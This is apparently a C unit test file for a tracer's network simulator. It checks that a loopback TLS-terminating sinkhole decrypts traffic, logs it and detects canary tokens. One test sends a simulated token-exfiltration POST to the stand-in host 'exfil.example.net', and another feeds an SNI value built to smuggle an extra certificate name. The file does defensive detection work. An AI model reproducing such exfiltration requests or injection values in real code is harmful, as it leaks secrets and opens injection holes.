/* tls_ca, tls_term and netsim's TLS termination: a real OpenSSL client on loopback that
 * trusts the run's CA (or another one) talks HTTPS to a running sinkhole.
 * These tests failed before the termination existed (checked by starting netsim without
 * tls_ca: the handshake gets no answer and the log has no plain bytes). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/pem.h>
#include <openssl/ssl.h>

#include "tracer/canary.h"
#include "tracer/netsim.h"
#include "tracer/tls_ca.h"

static const uint16_t free_port[] = {0};
static const char *const loopback[] = {"127.0.0.1"};
static const char canary_list[] = "token t1 ghp_{base62:36}\nenv GITHUB_TOKEN t1\n";

struct fixture {
	struct tls_ca *ca, *other;
	struct canary_set *canaries;
	struct netsim *ns;
	uint16_t port;
};

static int setup(void **state)
{
	struct fixture *f = calloc(1, sizeof *f);
	struct netsim_config cfg = {0};
	char err[256] = "";
	size_t n;

	assert_non_null(f);
	f->ca = tls_ca_new("mkcert development CA", "mkcert alex@laptop", err, sizeof err);
	assert_non_null(f->ca);
	f->other = tls_ca_new(NULL, "Some Other CA", err, sizeof err);
	assert_non_null(f->other);
	assert_int_equal(canary_set_new(canary_list, strlen(canary_list), &f->canaries, err, sizeof err), CANARY_OK);
	cfg.addresses = loopback;
	cfg.n_addresses = 1;
	cfg.dns_port = 0;
	cfg.sinkhole_ports = free_port;
	cfg.n_sinkhole_ports = 1;
	cfg.canaries = f->canaries;
	cfg.tls_ca = f->ca;
	if (netsim_start(&cfg, &f->ns, err, sizeof err) != NETSIM_OK)
		fail_msg("netsim_start: %s", err);
	f->port = netsim_sinkhole_ports(f->ns, &n)[0];
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fixture *f = *state;

	netsim_free(f->ns);
	tls_ca_free(f->ca);
	tls_ca_free(f->other);
	canary_set_free(f->canaries);
	free(f);
	return 0;
}

static int connect_loopback(uint16_t port)
{
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)};
	struct timeval tv = {3, 0};
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof sa) != 0)
		fail_msg("connect: %s", strerror(errno));
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	return fd;
}

/* A client context that trusts only ca's certificate and checks the host (or IP) name. */
static SSL_CTX *client_trusting(const struct tls_ca *ca)
{
	SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
	BIO *b = BIO_new_mem_buf(tls_ca_pem(ca), -1);
	X509 *x = PEM_read_bio_X509(b, NULL, NULL, NULL);

	assert_non_null(x);
	assert_int_equal(X509_STORE_add_cert(SSL_CTX_get_cert_store(ctx), x), 1);
	SSL_CTX_set_verify(ctx, SSL_VERIFY_PEER, NULL);
	X509_free(x);
	BIO_free(b);
	return ctx;
}

struct exchange {
	bool handshake;
	char alpn[32];
	char answer[512];
	long verify;
};

/* One HTTPS exchange: handshake for sni (NULL: none, checked against 127.0.0.1), send
 * request, read the answer. */
static struct exchange talk(const struct fixture *f, const struct tls_ca *trust, const char *sni, const char *request)
{
	struct exchange ex = {0};
	SSL_CTX *ctx = client_trusting(trust);
	SSL *ssl = SSL_new(ctx);
	int fd = connect_loopback(f->port), n;
	const unsigned char *alpn;
	unsigned alpn_len;

	SSL_set_fd(ssl, fd);
	SSL_set_alpn_protos(ssl, (const unsigned char *)"\x02h2\x08http/1.1", 12);
	if (sni) {
		SSL_set_tlsext_host_name(ssl, sni);
		SSL_set1_host(ssl, sni);
	} else {
		X509_VERIFY_PARAM_set1_ip_asc(SSL_get0_param(ssl), "127.0.0.1");
	}
	ex.handshake = SSL_connect(ssl) == 1;
	ex.verify = SSL_get_verify_result(ssl);
	if (ex.handshake) {
		SSL_get0_alpn_selected(ssl, &alpn, &alpn_len);
		snprintf(ex.alpn, sizeof ex.alpn, "%.*s", (int)alpn_len, alpn);
		assert_int_equal(SSL_write(ssl, request, (int)strlen(request)), (int)strlen(request));
		for (size_t got = 0; got + 1 < sizeof ex.answer; got += (size_t)n)
			if ((n = SSL_read(ssl, ex.answer + got, (int)(sizeof ex.answer - 1 - got))) <= 0)
				break;
	}
	ERR_clear_error();
	SSL_free(ssl);
	SSL_CTX_free(ctx);
	close(fd);
	return ex;
}

static const struct netsim_connection *logged(const struct fixture *f, size_t want)
{
	struct netsim_stats st;

	for (int i = 0; i < 300; i++) {
		netsim_stats(f->ns, &st);
		if (st.connections >= want)
			return netsim_connection_at(f->ns, want - 1);
		usleep(10000);
	}
	fail_msg("%zu connections logged, want %zu", st.connections, want);
	return NULL;
}

static void test_request_inside_is_read(void **state)
{
	struct fixture *f = *state;
	const char *token = f->canaries->env.items[0].canary->value;
	char request[512];
	struct exchange ex;
	const struct netsim_connection *c;

	snprintf(request, sizeof request,
		 "POST /collect?v=2 HTTP/1.1\r\nHost: exfil.example.net\r\nContent-Type: application/json\r\n"
		 "Content-Length: %zu\r\n\r\n{\"t\":\"%s\"}", strlen(token) + 8, token);
	ex = talk(f, f->ca, "exfil.example.net", request);
	assert_true(ex.handshake);
	assert_int_equal(ex.verify, X509_V_OK);
	assert_string_equal(ex.alpn, "http/1.1"); /* h2 is offered but not taken */
	assert_non_null(strstr(ex.answer, "HTTP/1.1 200 OK"));
	assert_non_null(strstr(ex.answer, "{}"));
	c = logged(f, 1);
	assert_true(c->tls_intercepted);
	assert_null(c->tls_refused);
	assert_string_equal(c->tls_name, "exfil.example.net");
	assert_int_equal(c->protocol, SINKHOLE_TLS);
	assert_int_equal(c->http_requests, 1);
	assert_int_equal(c->plain_len, strlen(request));
	assert_memory_equal(c->plain_bytes, request, strlen(request));
	assert_int_equal(c->n_hits, 1);
	assert_string_equal(c->hits[0].canary->name, "t1");
	assert_string_equal(c->hits[0].layer, NETSIM_TLS_LAYER);
}

static void test_other_ca_is_refused(void **state)
{
	struct fixture *f = *state;
	struct exchange ex = talk(f, f->other, "api.example.com", "GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n");
	const struct netsim_connection *c;

	assert_false(ex.handshake);
	c = logged(f, 1);
	assert_false(c->tls_intercepted);
	assert_non_null(c->tls_refused);
	assert_true(c->tls_alert);
	assert_string_equal(c->tls_refused, "unknown CA"); /* the alert OpenSSL's client sends */
	assert_string_equal(c->tls_name, "api.example.com");
	assert_int_equal(c->plain_len, 0);
}

static void test_no_sni_gets_the_address(void **state)
{
	struct fixture *f = *state;
	struct exchange ex = talk(f, f->ca, NULL, "GET /ip HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n");
	const struct netsim_connection *c;

	assert_true(ex.handshake);
	assert_int_equal(ex.verify, X509_V_OK);
	c = logged(f, 1);
	assert_true(c->tls_intercepted);
	assert_string_equal(c->tls_name, "127.0.0.1");
}

static void test_leaf_is_minted_once_per_name(void **state)
{
	struct fixture *f = *state;
	const char *get = "GET / HTTP/1.1\r\nHost: a.example.com\r\n\r\n";

	assert_true(talk(f, f->ca, "a.example.com", get).handshake);
	assert_true(talk(f, f->ca, "a.example.com", get).handshake);
	assert_true(talk(f, f->ca, "b.example.com", get).handshake);
	logged(f, 3);
	assert_int_equal(tls_ca_minted(f->ca), 2);
}

static void test_hostile_sni_gets_no_leaf(void **state)
{
	struct fixture *f = *state;
	/* a name that would be two SANs if pasted into a config string */
	struct exchange ex = talk(f, f->ca, "a.example.com,IP:127.0.0.1", "GET / HTTP/1.1\r\n\r\n");
	const struct netsim_connection *c;

	assert_false(ex.handshake);
	c = logged(f, 1);
	assert_false(c->tls_intercepted);
	assert_non_null(c->tls_refused);
	assert_int_equal(tls_ca_minted(f->ca), 0);
}

static void test_ca_pem_and_hashed_name(void **state)
{
	struct fixture *f = *state;
	char name[32];

	assert_non_null(strstr(tls_ca_pem(f->ca), "-----BEGIN CERTIFICATE-----"));
	tls_ca_hashed_name(f->ca, name, sizeof name);
	assert_int_equal(strlen(name), 10);
	assert_string_equal(name + 8, ".0");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_request_inside_is_read, setup, teardown),
		cmocka_unit_test_setup_teardown(test_other_ca_is_refused, setup, teardown),
		cmocka_unit_test_setup_teardown(test_no_sni_gets_the_address, setup, teardown),
		cmocka_unit_test_setup_teardown(test_leaf_is_minted_once_per_name, setup, teardown),
		cmocka_unit_test_setup_teardown(test_hostile_sni_gets_no_leaf, setup, teardown),
		cmocka_unit_test_setup_teardown(test_ca_pem_and_hashed_name, setup, teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
